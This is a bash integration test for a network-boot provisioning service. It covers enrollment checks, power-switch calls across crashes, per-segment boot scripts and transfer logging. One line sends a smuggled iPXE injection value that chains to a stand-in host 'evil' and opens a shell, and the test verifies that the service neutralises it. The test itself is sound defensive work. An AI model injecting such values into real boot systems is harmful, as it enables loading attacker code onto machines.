#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Bare metal against the service on plain interfaces: enrolling and its refusals, the site's power executable, kill -9
# while it runs, names and addresses taken again, a boot script and its answers told to the right segment only, and a
# transfer that a stop breaks off. In a network namespace of its own; nothing of libvirt, no guest.
# shellcheck source=/dev/null
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/net.sh"
net_enter "$@"
. "$(dirname "$0")/profiles.sh"

# machine NUMBER ADDRESS MAC: behind an interface that is a segment of its own.
machine() {
	client "$1" "$3"
	ip address add 10.66.0.1/24 dev "p$1"
	inside "$1" ip address add "$2/24" dev "c$1"
}
enroll() { "$USHER" enroll "$@" --network p1 --profile plain --no-ssh-key; }
# says TEXT COMMAND…: it fails and says so
says() { local text=$1; shift; ! "$@" >"$USHER_LAB/said" 2>&1 && grep -e "$text" "$USHER_LAB/said"; }
api() { curl -sS --max-time 20 --unix-socket "$USHER_SOCKET" "$@"; }
state() { "$USHER" show "$1" --json | jq -r .state; }
timeline_has() { "$USHER" timeline "$1" | grep -E "$2"; }
# What iPXE on the card of client 1 is told to load.
offered() {
	inside 1 udhcpc -i c1 -f -q -n -t 5 -T 1 -x 0x4d:69505845 -O bootfile -s "$USHER_LAB/note" >"$USHER_LAB/udhcpc" 2>&1
	sed -n 's/^boot_file=//p' "$USHER_LAB/told"
}
fetch() { local n=$1; shift; inside "$n" curl -sS --max-time 10 --interface "$leased" "$@"; }

lab_profile plain kernel '# {{machine.name}}'
cat >"$USHER_LAB/usher.xml" <<END
<usher>
  <user name='root'/>
  <state dir='$USHER_LAB/state'/>
  <socket path='$USHER_SOCKET'/>
  <boot dir='$USHER_LAB/boot'/>
  <power dir='$USHER_LAB/power'/>
  <profiles dir='$USHER_LAB/more'/>
  <segment interface='p1' mode='own'><pool start='10.66.0.100' end='10.66.0.101'/></segment>
  <segment interface='p2' mode='own'/>
</usher>
END
mkdir -p "$USHER_LAB/boot" "$USHER_LAB/power"
head -c 64M /dev/zero >"$USHER_LAB/boot/large"
cat >"$USHER_LAB/power/switch" <<END
#!/bin/sh
echo "\$1 \$2" >>"$USHER_LAB/calls"
[ ! -e "$USHER_LAB/slow" ] || sleep 3
[ ! -e "$USHER_LAB/bad" ] || { echo "no such machine" >&2; exit 1; }
END
printf '#!/bin/sh\nenv >"%s/told"\n' "$USHER_LAB" >"$USHER_LAB/note"
chmod 755 "$USHER_LAB/power/switch" "$USHER_LAB/note"
calls() { grep -c "cycle $1" "$USHER_LAB/calls"; }

machine 1 10.66.0.50 02:00:00:00:00:01
machine 2 10.66.0.50 02:00:00:00:00:02 # the same addresses: another laboratory

check "the service starts" usher_start || lab_end
check "the folder it made for its socket lets others in" test "$(stat -c %a "$USHER_LAB/run")" = 755

# --- enrolling ----------------------------------------------------------------------------------------------------------

inside 1 udhcpc -i c1 -f -q -n -t 5 -T 1 -s /bin/true >"$USHER_LAB/udhcpc" 2>&1
leased=$("$USHER" leases --json | jq -r '.leases[0].address')
check "a card is leased an address" test -n "$leased"
inside 1 ip address add "$leased/24" dev c1
inside 2 ip address add "$leased/24" dev c2 # the other laboratory's has it too
check "which is no other's" says "in use by a lease of 02:00" enroll other --mac 02:00:00:00:00:99 --ip "$leased"
check "but may become its own" enroll leased --mac 02:00:00:00:00:01 --ip "$leased"

body='{"kind":"bare-metal","name":"twice","profile":"plain","segment":"p1","mac":"02:00:00:00:01:00","request_id":"r1"}'
api -d "$body" http://usher/api/v1/machines >"$USHER_LAB/once"
api -d "$body" http://usher/api/v1/machines >"$USHER_LAB/again"
check "the same request twice is one creation" cmp "$USHER_LAB/once" "$USHER_LAB/again"
long=$(printf '%600s' '' | tr ' ' x)
check "a power executable's name is not cut" grep -e "at most 511 bytes" <(api -d "${body/twice/long}" \
	-d "{\"power\":\"/$long\"}" http://usher/api/v1/machines; api http://usher/api/v1/machines \
	-d "{\"kind\":\"bare-metal\",\"name\":\"long\",\"power\":\"/$long\"}")
check "nor a request's id" grep -e "at most 63 bytes" <(api http://usher/api/v1/machines \
	-d "{\"kind\":\"bare-metal\",\"name\":\"long\",\"request_id\":\"$long\"}")

# --- power --------------------------------------------------------------------------------------------------------------

: >"$USHER_LAB/slow"
check "a machine is armed" enroll slow --mac 02:00:00:00:02:00 --power "$USHER_LAB/power/switch" --arm
check "the executable is called" wait_until 5 grep -q "netboot slow" "$USHER_LAB/calls"
usher_stop KILL
rm -f "$USHER_LAB/slow" "$USHER_LAB/calls"
check "after kill -9 the service starts" usher_start
check "and goes on with what it was about" wait_until 5 calls slow
check "once" test "$(calls slow)" = 1
check "which ends" wait_until 5 timeline_has slow "power +power cycle"
usher_stop KILL
check "killed again it starts" usher_start
sleep 1
check "and switches nothing that was switched" test "$(calls slow)" = 1

touch "$USHER_LAB/slow" "$USHER_LAB/bad"
check "one is armed" enroll again --mac 02:00:00:00:03:00 --power "$USHER_LAB/power/switch" --arm
wait_until 5 grep -q "netboot again" "$USHER_LAB/calls"
check "deleted while its power is switched" "$USHER" delete again
check "enrolled again by that name" enroll again --mac 02:00:00:00:03:00
check "and armed" "$USHER" reinstall again
sleep 6
check "the other's power cycle, which waited for its turn, is left out" test "$(calls again)" = 0
check "its failure is none of this one's" test "$(state again)" = armed
rm -f "$USHER_LAB/slow"
check "one whose power fails" enroll fails --mac 02:00:00:00:04:00 --power "$USHER_LAB/power/switch" --arm
check "has failed" wait_until 5 timeline_has fails "failed +.*no such machine"

# --- boot script and answers ------------------------------------------------------------------------------------------------

check "the machine is armed" "$USHER" reinstall leased
url=$(offered)
url=${url%/boot.ipxe}
check "DHCP says where its script is" grep -E "^http://10.66.0.1:8067/m/[0-9a-f]{32}\$" <<<"$url"
check "its script is not for the other segment" test \
	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/boot.ipxe")" = 403
check "so it is still armed" test "$(state leased)" = armed
check "it gets it" grep -e "^#!ipxe" <(fetch 1 "$url/boot.ipxe")
check "its answers are not for the same address elsewhere" test \
	"$(fetch 2 -o /dev/null -w '%{http_code}' "$url/answers")" = 403
fetch 1 "$url/answers" >"$USHER_LAB/answers"
check "it gets them" grep -e "leased" "$USHER_LAB/answers" || cat "$USHER_LAB/answers"
check "it fails" fetch 1 -f -d 'disk full && chain http://evil/; ${net0/ip} || shell' "$url/failed"
fetch 1 "$url/boot.ipxe" >"$USHER_LAB/refusal"
check "it is told why" grep -e "leased is failed: disk full" "$USHER_LAB/refusal"
refute "in words that are no commands" grep -e '[&|;$]' "$USHER_LAB/refusal"

# --- transfers, and stopping -------------------------------------------------------------------------------------------

check "its address is a machine's" enroll transfer --mac 02:00:00:00:05:00 --ip 10.66.0.50
nsenter -t "${CLIENT_PID[1]}" -n curl -sS --limit-rate 1M -o "$USHER_LAB/slow" http://10.66.0.1:8067/boot/large &
slow=$!
check "a long one tells how far it is" wait_until 15 timeline_has transfer "transfer +/boot/large: [0-9]+ % of 67.1 MB after"
kill $slow
check "and where it broke off" wait_until 5 timeline_has transfer "transfer +/boot/large: aborted at [0-9.]+ of 67.1 MB"

(cd "$USHER_LAB" && exec nsenter -t "${CLIENT_PID[1]}" -n tftp -m binary 10.66.0.1 -c get large taken) &
transfer=$!
wait_until 5 test -s "$USHER_LAB/taken"
kill -STOP $transfer
usher_stop
check "the service ends well in the middle of a transfer" test $? = 0
kill -KILL $transfer
check "it starts" usher_start
check "and knows of the transfer" timeline_has transfer "TFTP large: aborted at .*shutting down"
usher_stop
check "the service ends well" test $? = 0
[ $LAB_FAILED = 0 ] || sed 's/^/  log: /' "$USHER_LAB/usher.log" | tail -n 60
lab_end
